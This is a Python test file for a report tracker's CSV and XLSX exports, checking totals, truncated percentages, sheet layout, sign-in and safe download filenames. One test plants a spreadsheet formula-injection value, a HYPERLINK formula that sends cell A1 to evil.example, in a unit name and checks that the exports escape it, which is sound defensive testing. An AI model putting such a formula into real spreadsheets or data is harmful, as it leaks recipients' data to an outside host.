"""XLSX and CSV exports carry the same numbers as the summary and the page."""
import csv
import io

import pytest
from openpyxl import load_workbook
from reports_helpers import finish, put_dissemination, put_results
from sqlalchemy import select

from tests.conftest import NOW
from tracker.extensions import db
from tracker.models import Campaign


@pytest.fixture
def client(make_group, make_unit, make_user, login, frozen):
    with frozen(NOW):
        make_group("G1")
        a = make_unit("X01", group="G1", party_members=200)
        b = make_unit("X02", party_members=100)
        make_unit("X03", party_members=50)
        for u in (a, b):
            finish(u)
        put_results(a, committee_elected=15, re_elected=12, first_time=3, women=3, young=2, ethnic_minority=1,
                    delegates_official=10, delegates_alternate=2, seats=15, candidates=17)
        put_results(b, committee_elected=9, re_elected=7, first_time=2, women=2, young=1, ethnic_minority=0,
                    delegates_official=5, delegates_alternate=1)
        put_dissemination(a, 5, 260, 199)
        db.session.scalar(select(Campaign)).rounding = "truncate"
        db.session.commit()
        yield login(make_user("v@x.vn", "viewer"))


def test_csv_has_units_and_totals(client):
    r = client.get("/reports/export.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert "attachment" in r.headers["Content-Disposition"]
    text = r.get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    head = rows[0]
    assert head[0] == "Mã" and "Tái cử" in head
    assert [r[0] for r in rows[1:]] == ["X01", "X02", "X03", "Tổng cộng"]
    total = dict(zip(head, rows[-1], strict=False))
    assert total["Cấp ủy viên được bầu"] == "24"
    assert total["Tái cử"] == "19" and total["Tái cử %"] == "79.16"      # 19/24 = 79.1666… truncated
    assert total["Nữ %"] == "20.83"                                      # 5/24 = 20.8333…
    x01 = dict(zip(head, rows[1], strict=False))
    assert x01["Số dư %"] == "13.33" and x01["Ngày tổ chức đại hội"] == "30/03/2030"
    x03 = dict(zip(head, rows[3], strict=False))
    assert x03["Tổ chức đại hội"] == "0" and x03["Cấp ủy viên được bầu"] == ""


def test_xlsx_has_summary_units_and_kinds(client):
    r = client.get("/reports/export.xlsx?group=G1")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.get_data()))
    assert wb.sheetnames == ["Tổng hợp", "Đơn vị", "Theo loại"]
    summary = [c.value for c in wb["Tổng hợp"]["A"] if c.value]
    assert any(str(v).startswith("Đến ngày 01/04/2030, 1/1 đơn vị đã tổ chức xong đại hội") for v in summary)
    units = list(wb["Đơn vị"].iter_rows(values_only=True))
    head = units[0]
    assert [u[0] for u in units[1:]] == ["X01", "Tổng cộng"]
    total = dict(zip(head, units[-1], strict=False))
    assert total["Tái cử"] == 12 and total["Tái cử %"] == 80.0 and total["Nữ %"] == 20.0
    assert wb["Đơn vị"].cell(row=2, column=head.index("Tái cử %") + 1).number_format == "0.00"


def test_exports_need_sign_in_and_reject_unknown_group(client, app):
    assert app.test_client().get("/reports/export.xlsx").status_code == 302
    assert client.get("/reports/export.csv?group=NOPE").status_code == 404


def test_a_unit_name_is_never_a_formula_in_the_exports(client):
    from tracker.models import Unit

    unit = db.session.scalar(select(Unit).where(Unit.code == "X03"))
    unit.name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    db.session.commit()
    text = client.get("/reports/export.csv").get_data().decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == "X03")
    assert row[1].startswith("'=")
    wb = load_workbook(io.BytesIO(client.get("/reports/export.xlsx").get_data()))
    cell = next(r[1] for r in wb["Đơn vị"].iter_rows() if r[0].value == "X03")
    assert cell.data_type == "s" and cell.value.startswith("'=")


def test_a_group_code_with_vietnamese_letters_gives_a_safe_file_name(client, make_group, make_unit):
    from tracker.models import WorkingGroup
    # new codes are ASCII (tracker/codes.py); a code saved before that rule still exports safely
    db.session.add(WorkingGroup(code="TổA", name="Tổ A"))
    db.session.commit()
    r = client.get("/reports/export.csv?group=TổA")
    assert r.status_code == 200
    header = r.headers["Content-Disposition"]
    header.encode("latin-1")  # a header must be encodable, whatever the code
    assert "filename*=UTF-8''" in header and ".csv" in header
